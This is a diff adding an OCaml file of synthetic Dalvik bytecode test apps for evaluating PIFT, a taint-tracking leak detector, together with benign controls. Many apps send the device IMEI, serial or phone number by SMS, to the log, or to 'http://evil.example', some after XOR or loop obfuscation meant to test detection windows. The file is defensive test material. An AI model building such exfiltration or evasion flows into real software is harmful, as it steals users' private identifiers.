@@ -1,0 +1,439 @@
+(* GeneralJava-style cases: string manipulation, loops, dead code, and the
+   benign controls.  Detection-difficulty notes per app give the minimum
+   (NI, NT) at which PIFT catches the flow — these drive the Fig. 11
+   staircase. *)
+
+module B = Pift_dalvik.Bytecode
+open Dsl
+
+let app = App.make
+
+(* §2 running example; min window (2,1) — char-copy distance 2. *)
+let string_concat1 =
+  app ~name:"StringConcat1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            ([ lit 0 "type=sms" ]
+            @ imei 1
+            @ concat ~dst:2 0 1
+            @ [ lit 3 "&dummy" ]
+            @ concat ~dst:4 2 3
+            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
+        ])
+
+(* The sink range *is* the source range: caught at any window. *)
+let direct_leak1 =
+  app ~name:"DirectLeak1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:3 ~ins:0
+            (imei 0
+            @ [ lit 1 "http://evil.example/collect" ]
+            @ [ http ~url:1 ~body:0; B.Return_void ]);
+        ])
+
+let log_leak1 =
+  app ~name:"LogLeak1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:4 ~ins:0
+            (imei 0
+            @ [ lit 1 "TAG" ]
+            @ concat ~dst:2 1 0
+            @ [ log ~tag:1 ~msg:2; B.Return_void ]);
+        ])
+
+let phone_number1 =
+  app ~name:"PhoneNumber1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:5 ~ins:0
+            ([ lit 0 "num=" ]
+            @ phone_number 1
+            @ concat ~dst:2 0 1
+            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:2; B.Return_void ]);
+        ])
+
+let serial1 =
+  app ~name:"Serial1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            (serial 0
+            @ [ B.Const4 (1, 2); B.Const16 (2, 10) ]
+            @ [ call "String.substring" [ 0; 1; 2 ]; B.Move_result_object 3 ]
+            @ [ lit 4 "http://evil.example" ]
+            @ [ http ~url:4 ~body:3; B.Return_void ]);
+        ])
+
+(* Two sources concatenated; caught via either. *)
+let device_id1 =
+  app ~name:"DeviceId1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:7 ~ins:0
+            (imei 0
+            @ serial 1
+            @ [ lit 2 "&" ]
+            @ concat ~dst:3 0 2
+            @ concat ~dst:4 3 1
+            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
+        ])
+
+let substring1 =
+  app ~name:"Substring1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            (imei 0
+            @ [ B.Const4 (1, 0); B.Const16 (2, 8) ]
+            @ [ call "String.substring" [ 0; 1; 2 ]; B.Move_result_object 3 ]
+            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
+        ])
+
+let string_to_upper1 =
+  app ~name:"StringToUpper1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:4 ~ins:0
+            (imei 0
+            @ [ call "String.toUpperCase" [ 0 ]; B.Move_result_object 1 ]
+            @ [ lit 2 "TAG"; log ~tag:2 ~msg:1; B.Return_void ]);
+        ])
+
+(* Double XOR "encryption" through native transform copies. *)
+let obfuscation1 =
+  app ~name:"Obfuscation1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:4 ~ins:0
+            (imei 0
+            @ [ call "String.toUpperCase" [ 0 ]; B.Move_result_object 1 ]
+            @ [ call "String.toUpperCase" [ 1 ]; B.Move_result_object 2 ]
+            @ [ lit 3 "http://evil.example"; http ~url:3 ~body:2;
+                B.Return_void ]);
+        ])
+
+(* Sink behind a constant-true conditional. *)
+let source_code_specific1 =
+  app ~name:"SourceCodeSpecific1" ~category:"GeneralJava" ~leaky:true
+    (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:5 ~ins:0
+            (imei 0
+            @ [ B.Const4 (1, 1); B.If_testz (B.Eq, 1, 7) ]
+              (* pc 4..6: the sink branch *)
+            @ [ lit 2 "5554"; send_sms ~dest:2 ~msg:0; B.Return_void ]
+            @ [ B.Return_void ] (* pc 7: skip branch *));
+        ])
+
+(* getBytes -> byte[] -> new String -> http; copies at distance 2.
+   Outside the Fig. 11 subset. *)
+let get_bytes1 =
+  app ~name:"GetBytes1" ~category:"GeneralJava" ~leaky:true ~subset48:false
+    (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:5 ~ins:0
+            (imei 0
+            @ [ call "String.getBytes" [ 0 ]; B.Move_result_object 1 ]
+            @ [ call "String.fromBytes" [ 1 ]; B.Move_result_object 2 ]
+            @ [ lit 3 "http://evil.example"; http ~url:3 ~body:2;
+                B.Return_void ]);
+        ])
+
+(* String -> char[] -> String round trip.  Outside the subset. *)
+let char_array1 =
+  app ~name:"CharArray1" ~category:"ArraysAndLists" ~leaky:true
+    ~subset48:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            (imei 0
+            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
+            @ [ B.New_array (2, 1, "char[]") ]
+            @ [ call "String.getChars" [ 0; 2 ] ]
+            @ [ call "String.fromChars" [ 2 ]; B.Move_result_object 3 ]
+            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
+        ])
+
+(* The leaking branch is never executed. *)
+let unreachable_code =
+  app ~name:"UnreachableCode" ~category:"GeneralJava" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:5 ~ins:0
+            (imei 0
+            @ [ B.Const4 (1, 0); B.If_testz (B.Eq, 1, 7) ]
+              (* pc 4..6: dead sink *)
+            @ [ lit 2 "5554"; send_sms ~dest:2 ~msg:0; B.Return_void ]
+            @ [ lit 3 "5554" ]
+            @ [ lit 2 "ok"; send_sms ~dest:3 ~msg:2; B.Return_void ]);
+        ])
+
+(* Per-char bytecode transformation loop.  [xform] maps the loaded char
+   vreg to the stored one; its translation distance sets the app's
+   minimum window. *)
+let char_loop_app ~name ~xform ~sink =
+  app ~name ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:10 ~ins:0
+            (body
+               ([
+                  Is (imei 0);
+                  I (call "String.length" [ 0 ]);
+                  I (B.Move_result 1);
+                  I (B.New_array (2, 1, "char[]"));
+                  I (call "String.getChars" [ 0; 2 ]);
+                  I (B.New_array (3, 1, "char[]"));
+                  I (B.Const4 (4, 0));
+                  L "head";
+                  If_l (B.Ge, 4, 1, "done");
+                  I (B.Aget_char (5, 2, 4));
+                ]
+               @ xform
+               @ [
+                   I (B.Aput_char (6, 3, 4));
+                   I (B.Binop_lit8 (B.Add, 4, 4, 1));
+                   Goto_l "head";
+                   L "done";
+                   I (call "String.fromChars" [ 3 ]);
+                   I (B.Move_result_object 7);
+                 ]
+               @ sink));
+        ])
+
+(* int-to-char copy (distance 6): needs NI >= 6. *)
+let loop1 =
+  char_loop_app ~name:"Loop1"
+    ~xform:[ I (B.Int_to_char (6, 5)) ]
+    ~sink:
+      [ I (lit 8 "5554"); I (send_sms ~dest:8 ~msg:7); I B.Return_void ]
+
+(* XOR obfuscation (xor-int/lit8, distance 5): needs NI >= 5. *)
+let loop2 =
+  char_loop_app ~name:"Loop2"
+    ~xform:
+      [ I (B.Binop_lit8 (B.Xor, 5, 5, 0x2A)); I (B.Move (6, 5)) ]
+    ~sink:
+      [
+        I (lit 8 "http://evil.example");
+        I (http ~url:8 ~body:7);
+        I B.Return_void;
+      ]
+
+(* StringBuilder CSV assembly: per-char length bookkeeping stores mean the
+   data store is the second store in the window -> needs NT >= 2 (and
+   NI >= 3). *)
+let batch_leak1 =
+  app ~name:"BatchLeak1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (sb_new ~dst:0
+            @ [ lit 1 "id=" ]
+            @ sb_append ~sb:0 1
+            @ imei 2
+            @ sb_append ~sb:0 2
+            @ [ lit 3 "&p=" ]
+            @ sb_append ~sb:0 3
+            @ phone_number 4
+            @ sb_append ~sb:0 4
+            @ sb_to_string ~dst:5 ~sb:0
+            @ [ lit 6 "http://evil.example"; http ~url:6 ~body:5;
+                B.Return_void ]);
+        ])
+
+let sb_chain1 =
+  app ~name:"SbChain1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            (sb_new ~dst:0
+            @ serial 1
+            @ sb_append ~sb:0 1
+            @ sb_to_string ~dst:2 ~sb:0
+            @ [ lit 3 "TAG"; log ~tag:3 ~msg:2; B.Return_void ]);
+        ])
+
+(* Chars packed into a long (int-to-long d=5, add-long d=6), shifted back
+   out and leaked: needs NI >= 6. *)
+let wide_leak1 =
+  app ~name:"WideLeak1" ~category:"GeneralJava" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:14 ~ins:0
+            (imei 0
+            @ [ B.Const4 (1, 0) ]
+            @ [ call "String.charAt" [ 0; 1 ]; B.Move_result 2 ]
+            (* pack: v4/v5 = (long) c; v6/v7 = v4 << 0 + ... *)
+            @ [
+                B.Int_to_long (4, 2);
+                B.Const4 (8, 0);
+                B.Add_long (6, 4, 4);
+                B.Shr_long (6, 6, 8);
+                B.Long_to_int (9, 6);
+                B.Int_to_char (9, 9);
+              ]
+            (* rebuild a one-char string via a char array *)
+            @ [ B.Const4 (10, 1); B.New_array (11, 10, "char[]") ]
+            @ [ B.Const4 (12, 0); B.Aput_char (9, 11, 12) ]
+            @ [ call "String.fromChars" [ 11 ]; B.Move_result_object 13 ]
+            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:13; B.Return_void ]);
+        ])
+
+(* --- Benign controls --------------------------------------------------- *)
+
+let benign_constant1 =
+  app ~name:"BenignConstant1" ~category:"GeneralJava" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            (imei 0
+            @ [ lit 1 "hello"; lit 2 "world" ]
+            @ concat ~dst:3 1 2
+            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
+        ])
+
+(* Sends the *length* of the IMEI — metadata, not data. *)
+let benign_length1 =
+  app ~name:"BenignLength1" ~category:"GeneralJava" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:5 ~ins:0
+            (imei 0
+            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
+            @ int_to_string ~dst:2 1
+            @ [ lit 3 "TAG"; log ~tag:3 ~msg:2; B.Return_void ]);
+        ])
+
+(* A buffer receives the IMEI, is then fully overwritten with constant
+   data, and only then sent: clean under exact tracking; PIFT must
+   untaint the overwritten stores to avoid a false positive. *)
+let benign_overwrite1 =
+  app ~name:"BenignOverwrite1" ~category:"GeneralJava" ~leaky:false
+    (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (body
+               ([
+                  Is (imei 0);
+                  I (call "String.length" [ 0 ]);
+                  I (B.Move_result 1);
+                  I (B.New_array (2, 1, "char[]"));
+                  I (call "String.getChars" [ 0; 2 ]);
+                ]
+               (* store-free gap, then a long clean stretch, so the
+                  overwrite stores fall outside any tainting window *)
+               @ window_gap 8
+               @ clean_loop ~counter:4 ~bound:5 ~iterations:40
+               (* overwrite with constant text of the same length *)
+               @ [
+                   I (lit 3 "000000000000000");
+                   I (call "String.getChars" [ 3; 2 ]);
+                   I (call "String.fromChars" [ 2 ]);
+                   I (B.Move_result_object 6);
+                   I (lit 7 "5554");
+                   I (send_sms ~dest:7 ~msg:6);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* Sensitive processing happens, then — after re-using and cleansing the
+   registers and a long clean stretch — an unrelated message is built and
+   sent. *)
+let benign_separate1 =
+  app ~name:"BenignSeparate1" ~category:"GeneralJava" ~leaky:false
+    (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (body
+               ([
+                  Is (imei 0);
+                  I (call "String.toUpperCase" [ 0 ]);
+                  I (B.Move_result_object 1);
+                  (* register cleansing: constants overwrite the slots the
+                     tainted phase used (outside windows -> untainted) *)
+                  I (B.Const4 (0, 0));
+                  I (B.Const4 (1, 0));
+                  I (B.Const4 (2, 0));
+                ]
+               @ window_gap 8
+               @ clean_loop ~counter:4 ~bound:5 ~iterations:60
+               @ [
+                   I (lit 2 "status=");
+                   I (lit 3 "ok");
+                   Is (concat ~dst:6 2 3);
+                   I (lit 7 "http://stats.example");
+                   I (http ~url:7 ~body:6);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* Reads the phone number but sends a constant template. *)
+let benign_format1 =
+  app ~name:"BenignFormat1" ~category:"AndroidSpecific" ~leaky:false
+    (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:7 ~ins:0
+            (body
+               ([ Is (phone_number 0); I (B.Const4 (0, 0)) ]
+               @ clean_loop ~counter:4 ~bound:5 ~iterations:40
+               @ [
+                   I (lit 1 "+1-XXX-XXX-XXXX");
+                   I (lit 2 "TAG");
+                   I (log ~tag:2 ~msg:1);
+                   I B.Return_void;
+                 ]));
+        ])
+
+(* Aliasing: two references to the same builder; the one that is sent
+   only ever received clean data. *)
+let merge1 =
+  app ~name:"Merge1" ~category:"Aliasing" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (sb_new ~dst:0
+            @ [ B.Move_object (1, 0) ]
+            @ [ lit 2 "clean" ]
+            @ sb_append ~sb:1 2
+            @ imei 3
+            (* the IMEI string itself is never appended anywhere *)
+            @ sb_to_string ~dst:4 ~sb:0
+            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
+        ])
+
+let all : App.t list =
+  [
+    string_concat1;
+    direct_leak1;
+    log_leak1;
+    phone_number1;
+    serial1;
+    device_id1;
+    substring1;
+    string_to_upper1;
+    obfuscation1;
+    source_code_specific1;
+    get_bytes1;
+    char_array1;
+    unreachable_code;
+    loop1;
+    loop2;
+    batch_leak1;
+    sb_chain1;
+    wide_leak1;
+    benign_constant1;
+    benign_length1;
+    benign_overwrite1;
+    benign_separate1;
+    benign_format1;
+    merge1;
+  ]
